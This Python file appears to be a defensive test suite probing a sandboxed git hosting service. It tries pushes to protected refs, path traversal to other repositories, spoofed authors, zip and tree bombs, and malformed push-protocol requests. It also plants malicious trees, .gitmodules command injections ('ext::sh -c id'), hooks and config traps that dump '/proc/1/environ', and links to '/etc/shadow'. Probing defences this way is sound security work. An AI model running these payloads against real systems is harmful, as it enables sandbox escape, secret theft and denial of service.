"""Tricks with git: where the box may not push, what nobody wants, and settings meant for whoever runs git here."""

import os
import subprocess

from each import Nothing, each, must

REPO = "/work/repo"
NAMES = ("GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME")
EMAILS = ("GIT_AUTHOR_EMAIL", "GIT_COMMITTER_EMAIL")


def git(*args, cwd=REPO, stdin=b"", email="", fails=True):
    """What git says; raises with its words when it ends in failure."""
    env = dict(os.environ, **{name: "Mallory" for name in NAMES if email}, **{name: email for name in EMAILS if email})
    done = subprocess.run(("git", *args), cwd=cwd, input=stdin, capture_output=True, env=env, timeout=50)
    said = (done.stdout + done.stderr).decode(errors="replace").strip()
    if done.returncode and fails:
        told = [line for line in said.splitlines() if "remote:" in line or "!" in line or "fatal" in line]
        raise Nothing(" ".join(told[:2])[:160] or said[-160:])
    return said


def pushed(commit, ref, *options):
    git("push", *options, "origin", f"{commit}:{ref}")
    return f"pushed {commit[:10]} to {ref}"


def commit_of(files, message="work", email="", parent="HEAD"):
    """A commit on top of HEAD with these entries in its tree: path → (mode, content or sha)."""
    entries = git("ls-tree", "-z", parent).encode()
    for path, (mode, content) in files.items():
        kind = "tree" if mode == "40000" else "blob"
        sha = content if kind == "tree" else git("hash-object", "-w", "--stdin", "--no-filters", stdin=content)
        entries += f"{mode.zfill(6)} {kind} {sha}\t{path}\0".encode()
    tree = git("mktree", "-z", stdin=entries)
    return git("commit-tree", tree, "-p", parent, "-F", "-", stdin=message.encode(), email=email)


def raw_tree(entries):
    """The sha of a tree that git's own commands would not write: pairs of (mode, name, sha)."""
    data = b"".join(f"{mode} {name}\0".encode() + bytes.fromhex(sha) for mode, name, sha in entries)
    return git("hash-object", "-t", "tree", "-w", "--stdin", "--literally", stdin=data)


def branches(given):
    """Push to the base branch, another session's, tags, odd refs; delete; force; several at once."""
    head, me = git("rev-parse", "HEAD"), git("config", "user.email")
    mine, own = commit_of({}, email=me), given["branch"]
    refs = (
        "refs/heads/main",
        f"refs/heads/{given['other']}",
        "refs/tags/v9",
        "refs/heads/shipmate/new",
        "refs/pull/1/head",
        "refs/heads/shipmate/../main",
        "refs/replace/" + head,
        "refs/meta/config",
        "HEAD",
        "refs/heads/MAIN",
    )
    ways = [(ref, lambda to=ref: pushed(mine, to)) for ref in refs]
    ways += [
        (
            "delete",
            lambda: (
                pushed("", f"refs/heads/{own}")
                if git("push", "origin", f"{head}:refs/heads/{own}", fails=False)
                else ""
            ),
        ),
        ("back", lambda: pushed("HEAD~1", f"refs/heads/{own}", "--force")),
        ("mirror", lambda: git("push", "--mirror", "origin")),
        (
            "two at once",
            lambda: git("push", "origin", f"{mine}:refs/heads/{own}", f"{mine}:refs/heads/main"),
        ),
        ("tags", lambda: git("tag", "-f", "trick") or git("push", "--tags", "origin")),
    ]
    return each(ways)


def other_repositories(_given):
    """Fetch from and push to repositories that are not this session's."""
    base = git("config", "remote.origin.url").rsplit("/git/", 1)[0] + "/git/"
    names = (
        "acme/secret",
        "acme/rocket/../secret",
        "acme/rocket.git/../secret",
        "other/rocket",
        "../../etc",
        "acme/%2e%2e/acme/secret",
        "acme/rocket%00",
        ".git/rocket",
        "acme/rocket.git/objects/info/packs?",
        "acme/rocket.git/config?",
        "acme/rocket.git/HEAD?",
    )
    return each([(name, lambda n=name: git("ls-remote", f"{base}{n}.git")) for name in names])


def authors(given):
    """Push work of somebody who does not take part: as author, as committer, as co-author."""
    me, own = git("config", "user.email"), f"refs/heads/{given['branch']}"
    env_email = "mallory@evil.test"
    trailer = "Work\n\nCo-authored-by: Linus <linus@evil.test>\n"

    def committed_by(author, committer):
        env = dict(
            os.environ,
            GIT_AUTHOR_NAME="M",
            GIT_COMMITTER_NAME="M",
            GIT_AUTHOR_EMAIL=author,
            GIT_COMMITTER_EMAIL=committer,
        )
        done = subprocess.run(
            ("git", "commit-tree", "HEAD^{tree}", "-p", "HEAD", "-m", "x"), cwd=REPO, env=env, capture_output=True
        )
        return done.stdout.decode().strip()

    return each(
        [
            ("both", lambda: pushed(committed_by(env_email, env_email), own)),
            ("author", lambda: pushed(committed_by(env_email, me), own)),
            ("committer", lambda: pushed(committed_by(me, env_email), own)),
            ("co-author", lambda: pushed(commit_of({}, trailer, me), own)),
            (
                "co-author in capitals",
                lambda: pushed(commit_of({}, trailer.replace("Co-authored-by: ", "CO-AUTHORED-BY:"), me), own),
            ),
            ("hidden below", lambda: pushed(commit_of({}, email=me, parent=committed_by(env_email, env_email)), own)),
        ]
    )


def bad_trees(given):
    """Push what would run or break elsewhere: workflows, .git/config, .gitmodules, odd names, endless files."""
    me, own = git("config", "user.email"), f"refs/heads/{given['branch']}"
    blob = git("hash-object", "-w", "--stdin", stdin=b"[core]\n\tsshCommand = touch /tmp/pwned\n")
    folder = git("mktree", stdin=f"100644 blob {blob}\tconfig\n".encode())
    flows = git("mktree", stdin=f"100644 blob {blob}\tx.yml\n".encode())
    flow = git("mktree", stdin=f"040000 tree {flows}\tworkflows\n".encode())
    modules = git("hash-object", "-w", "--stdin", stdin=b'[submodule "x"]\n\tpath = x\n\turl = -u./payload\n')
    climbing = git(
        "hash-object", "-w", "--stdin", stdin=b'[submodule "../../x"]\n\tpath = x\n\turl = https://e.test/x\n'
    )

    def commit(tree):
        return git("commit-tree", tree, "-p", "HEAD", "-m", "x", email=me)

    def tree_with(mode, name, sha):
        return lambda: pushed(commit(raw_tree([(mode, name, sha)])), own)

    def bomb():
        subprocess.run("head -c 80000000 /dev/zero >/tmp/zeros", shell=True, check=True)
        large = git("hash-object", "-w", "/tmp/zeros")
        return pushed(commit(raw_tree([("100644", "zeros", large)])), own)

    def many():
        tree = blob_tree = raw_tree([("100644", f"f{n}", blob) for n in range(10)])
        for _ in range(9):  # ten to the tenth files in a few hundred bytes
            tree = raw_tree([("40000", f"d{n}", tree) for n in range(10)])
        return must(blob_tree) and pushed(commit(tree), own) and must("", "taken, and harmless: nothing walks it")

    return each(
        [
            ("workflow", tree_with("40000", ".github", flow)),
            (".git", tree_with("40000", ".git", folder)),
            (".GIT", tree_with("40000", ".GIT", folder)),
            ("git~1", tree_with("40000", "git~1", folder)),
            (".gitmodules url", tree_with("100644", ".gitmodules", modules)),
            (".gitmodules name", tree_with("100644", ".gitmodules", climbing)),
            (".gitmodules link", tree_with("120000", ".gitmodules", blob)),
            ("..", tree_with("40000", "..", folder)),
            ("slash", tree_with("100644", "a/b", blob)),
            ("empty", tree_with("100644", "", blob)),
            ("unsorted", lambda: pushed(commit(raw_tree([("100644", "b", blob), ("100644", "a", blob)])), own)),
            ("bomb", bomb),
            ("tree bomb", many),
        ]
    )


def bad_packs(given):
    """Speak the push protocol by hand: broken packs, bombs, deltas without a base, endless lines, no pack at all."""
    import http.client
    import struct
    import zlib

    head, own = git("rev-parse", "HEAD"), f"refs/heads/{given['branch']}"
    zero, new = "0" * 40, "1" * 40

    def line(text):
        return f"{len(text) + 4:04x}".encode() + text.encode()

    def push(body, coding=""):
        wire = http.client.HTTPConnection("127.0.0.1", 8787, timeout=30)
        headers = {
            "Content-Type": "application/x-git-receive-pack-request",
            **({"Content-Encoding": coding} if coding else {}),
        }
        wire.request("POST", "/git/acme/rocket.git/git-receive-pack", body, headers)
        answer = wire.getresponse()
        said = answer.read(4000)
        must(b"ok refs/" in said, f"{answer.status} {said[-120:]!r}")
        return said

    command = line(f"{zero} {new} {own}\0report-status") + b"0000"
    pack = b"PACK" + struct.pack(">II", 2, 1)
    huge = pack + bytes([0xB0 | 0x0F]) + b"\xff\xff\xff\xff\x0f" + zlib.compress(bytes(1 << 20))
    zip_bomb = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(zip_bomb.compress(bytes(1 << 20)) for _ in range(700)) + zip_bomb.flush()
    return each(
        [
            ("no pack", lambda: push(command)),
            ("cut", lambda: push(command + pack)),
            ("noise", lambda: push(command + os.urandom(4000))),
            ("many objects", lambda: push(command + b"PACK" + struct.pack(">II", 2, 0xFFFFFFFF))),
            ("huge object", lambda: push(command + huge)),
            ("gzip bomb", lambda: push(packed, "gzip")),
            ("no end of commands", lambda: push(line(f"{zero} {new} {own}\0") * 20000)),
            ("bad line", lambda: push(b"zzzz")),
            ("long line", lambda: push(b"ffff" + b"a" * 70000)),
            ("shallow", lambda: push(line(f"shallow {head}") + command)),
            ("certificate", lambda: push(line("push-cert\0") + command)),
            ("name with a newline", lambda: push(line(f"{zero} {new} refs/heads/a\nb\0report-status") + b"0000")),
        ]
    )


def settings_for_others(_given):
    """Leave settings, hooks, filters, attributes and links in the repository and the home, for the next git."""
    trap = "#!/bin/sh\nid >>/tmp/trap; cat /proc/1/environ >>/tmp/trap 2>&1; echo trapped $0 >>/work/home/trapped\n"
    os.makedirs("/work/home/bin", exist_ok=True)
    for path in (
        "/work/home/bin/trap",
        *(
            f"{REPO}/.git/hooks/{name}"
            for name in (
                "pre-commit",
                "post-commit",
                "pre-push",
                "post-checkout",
                "reference-transaction",
                "post-index-change",
            )
        ),
    ):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(trap)
        os.chmod(path, 0o755)
    run = "/work/home/bin/trap"
    for key in (
        "core.fsmonitor",
        "core.sshCommand",
        "core.editor",
        "core.pager",
        "gpg.program",
        "credential.helper",
        "diff.external",
        "filter.x.clean",
        "filter.x.smudge",
        "filter.x.process",
        "merge.x.driver",
        "core.gitProxy",
        "uploadpack.packObjectsHook",
        "alias.push",
        "core.askPass",
        "sequence.editor",
    ):
        git("config", key, run)
    for key, value in (
        ("core.hooksPath", f"{REPO}/.git/hooks"),
        ("include.path", "/etc/shadow"),
        ("core.worktree", "/"),
        ("includeIf.gitdir:/.path", "/var/lib/shipmate/x"),
        ("core.attributesFile", "/work/home/attributes"),
    ):
        if key != "core.worktree":
            git("config", key, value)
    with open(f"{REPO}/.git/info/attributes", "w") as file:
        file.write("* filter=x merge=x diff=x\n")
    with open(f"{REPO}/.git/objects/info/alternates", "w") as file:
        file.write("/var/lib/shipmate/mirrors\n/root/.git/objects\n../../../../etc\n")
    os.symlink("/etc/shadow", f"{REPO}/shadow") if not os.path.islink(f"{REPO}/shadow") else None
    with open(f"{REPO}/.gitmodules", "w") as file:
        file.write('[submodule "x"]\n\tpath = x\n\turl = ext::sh -c id\n')
    with open(f"{REPO}/changed by the trick", "w") as file:
        file.write("something to commit\n")
    raise Nothing("left behind: what the runner and the host do with it is seen from outside")


def hung_runner(_given):
    """Put pipes and links where the runner reads and writes, so that it waits for ever or writes elsewhere."""
    import shutil

    shutil.rmtree("/work/home/.config", ignore_errors=True)
    os.makedirs("/work/home/.config/git")
    os.mkfifo("/work/home/.config/git/config")
    os.mkfifo("/work/home/.config/git/ignore")
    for number in range(3, 12):
        path = f"{REPO}/.git/shipmate-checkout"
        if os.path.lexists(path):
            os.unlink(path)
        os.symlink(f"/proc/1/fd/{number}", path)
    raise Nothing("left behind: the next turn shows whether the runner lives")


def repository_gone(_given):
    """Put the repository's .git elsewhere: a file that names another, a link out of the tree."""
    import shutil

    shutil.rmtree("/work/home/elsewhere", ignore_errors=True)
    shutil.copytree(f"{REPO}/.git", "/work/home/elsewhere", symlinks=True)
    shutil.rmtree(f"{REPO}/.git")
    os.symlink("/work/home/elsewhere", f"{REPO}/.git")
    os.rename(f"{REPO}/.git/config", f"{REPO}/.git/kept")
    os.mkfifo(f"{REPO}/.git/config")
    raise Nothing("left behind: the next box of this session shows what came of it")
